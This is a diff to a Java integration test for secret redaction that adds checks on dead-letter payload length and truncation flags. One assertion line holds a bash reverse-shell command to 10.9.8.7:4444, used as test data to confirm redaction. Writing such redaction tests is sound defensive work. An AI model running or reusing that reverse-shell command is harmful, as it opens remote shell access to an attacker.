@@ -93,7 +93,10 @@ class SecretRedactionITCase {
                 .anySatisfy(v -> assertThat(v).contains("echo <redacted:env> > /tmp/p; bash -i >& /dev/tcp/10.9.8.7/4444"));
         assertThat(alerts.results()).filteredOn(a -> a.kind() == AlertKind.ATTEMPT).singleElement()
                 .satisfies(a -> assertThat(a.userAgent()).isEqualTo("curl/8.5 token=<redacted:secret>"));
-        assertThat(new String(dead.results().get(0).payload(), StandardCharsets.UTF_8))
+        DeadLetter letter = dead.results().get(0);
+        assertThat(new String(letter.payload(), StandardCharsets.UTF_8))
                 .contains("\"name\":\"API_TOKEN\",\"value\":\"<redacted:secret>");
+        assertThat(letter.payloadLength()).as("a whole record stays whole").isEqualTo(letter.payload().length);
+        assertThat(DeadLetterJson.toJson(letter)).contains("\"payloadTruncated\":false");
     }
 }
